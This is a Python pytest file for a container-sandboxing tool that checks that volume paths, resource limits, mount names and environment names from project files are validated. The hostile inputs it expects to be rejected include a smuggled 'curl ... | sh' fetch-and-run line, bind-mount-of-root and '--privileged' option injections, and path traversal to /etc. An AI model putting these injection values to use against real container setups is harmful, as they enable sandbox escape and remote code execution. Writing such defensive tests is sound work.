"""The walls' grammar: every value a project file can set is checked before it reaches an argument or a file."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kit.errors import KitError
from kit.project.servers import load_server
from kit.walls import Mount, Walls

HOSTILE_PATHS = [
    "/data,type=bind,source=/",
    "/data\nRUN curl http://example.invalid | sh",
    "/data with space",
    "/data/../etc",
    "data",
    "/",
    "/proc/self",
    "/etc",
    "/opt/venv/bin",
    "/data:ro",
    '/data"',
]


def _server(tmp_path: Path, table: str, name: str = "srv") -> None:
    folder = tmp_path / name
    folder.mkdir(exist_ok=True)
    (folder / "pyproject.toml").write_text(
        f'[project]\nname = "{name}"\nversion = "1.0"\n[tool.mcpkit]\nmodule = "srv"\n{table}\n'
    )
    load_server(folder, tmp_path)


@pytest.mark.parametrize("path", HOSTILE_PATHS)
def test_a_volume_path_is_one_plain_absolute_path(tmp_path: Path, path: str) -> None:
    with pytest.raises(KitError, match=r"\[tool.mcpkit\]"):
        _server(tmp_path, f"volumes = {{ data = {json.dumps(path)} }}")


@pytest.mark.parametrize("name", ["x,type=bind,source=/", "UPPER", "a b", "-x", "x" * 50])
def test_a_volume_name_is_a_plain_name(tmp_path: Path, name: str) -> None:
    with pytest.raises(KitError, match="volume name"):
        _server(tmp_path, f'volumes = {{ "{name}" = "/data" }}')


@pytest.mark.parametrize("path", HOSTILE_PATHS)
def test_a_data_dir_is_one_plain_absolute_path(tmp_path: Path, path: str) -> None:
    with pytest.raises(KitError, match="data-dirs"):
        _server(tmp_path, f"data-dirs = [{json.dumps(path)}]")


@pytest.mark.parametrize(
    "limits",
    [
        'tmpfs-size = "64m,exec,suid,dev"',
        'memory = "0"',
        'memory = "-1"',
        'memory = "512m --privileged"',
        'memory = "1k"',
        'cpus = "0"',
        'cpus = "1,2"',
        'cpus = "-1"',
        "pids = 0",
        "pids = -1",
        "pids = 10000000",
    ],
)
def test_limits_cannot_be_removed_or_carry_options(tmp_path: Path, limits: str) -> None:
    with pytest.raises(KitError, match="limits"):
        _server(tmp_path, f"[tool.mcpkit.limits]\n{limits}")


@pytest.mark.parametrize("table", ['image-env = { "A=B C" = "x" }', 'local-packages = ["../../elsewhere"]',
                                   'local-packages = ["/etc"]', 'env = ["A B"]'])  # fmt: skip
def test_other_project_values_are_checked_too(tmp_path: Path, table: str) -> None:
    with pytest.raises(KitError):
        _server(tmp_path, table)


@pytest.mark.parametrize("name", ["Bad Name", "UPPER", "a-", "1abc", "a_b"])
def test_a_server_folder_needs_a_valid_name(tmp_path: Path, name: str) -> None:
    with pytest.raises(KitError, match="server folder name"):
        _server(tmp_path, "", name=name)


def test_good_values_pass_and_render_as_written(tmp_path: Path) -> None:
    walls = Walls(
        memory="1g", cpus="0.5", pids=64, tmpfs_size="16m", mounts=(Mount("volume", "v1", "/data"),)
    )
    args = walls.docker_args()
    assert "--mount" in args and "type=volume,source=v1,target=/data" in args
    assert "/tmp:rw,noexec,nosuid,nodev,size=16m" in args
    assert walls.sdk_kwargs()["nano_cpus"] == 500_000_000
    assert walls.compose_service()["volumes"] == ["v1:/data"]
    assert walls.k8s_resources()["limits"] == {"memory": "1Gi", "cpu": "0.5"}


def test_an_attached_servers_traffic_is_kept_in_no_engine_log_unless_asked() -> None:
    args = Walls().docker_args()
    assert args[args.index("--log-driver") + 1] == "none"
    assert Walls().sdk_kwargs()["log_config"]["Type"] == "none"
    kept = Walls(engine_log=True)
    assert "--log-driver" not in kept.docker_args() and "log_config" not in kept.sdk_kwargs()


@pytest.mark.parametrize(
    "fields",
    [
        {"network": "host"},
        {"memory": "0"},
        {"tmpfs_size": "1m,exec"},
        {"labels": (("io.x", "a\nb"),)},
        {"env_names": ("A=B",)},
        {"mounts": (Mount("volume", "a", "/data"), Mount("volume", "b", "/data"))},
    ],
)
def test_walls_refuse_values_that_would_weaken_them(fields: dict[str, object]) -> None:
    with pytest.raises(KitError):
        Walls(**fields)  # type: ignore[arg-type]


def test_a_mount_refuses_a_comma_in_either_side() -> None:
    with pytest.raises(ValueError):
        Mount("bind", "/srv/a,type=bind", "/data")
    with pytest.raises(ValueError):
        Mount("volume", "v", "/data,readonly=false")


@pytest.mark.parametrize("name", ["DSN", "_X", "a1_B", "X" * 128, "1X", "A-B", "X" * 129, "", "É"])
def test_the_expander_takes_exactly_the_variable_names_walls_pass(name: str) -> None:
    """`${NAME}` is expanded in the container for exactly the names `-e NAME` may pass: one grammar, two places."""
    from kit.walls import ENV_NAME
    from mcpkit_runtime import argv

    assert bool(ENV_NAME.match(name)) == (argv.names([f"${{{name}}}"]) == [name])
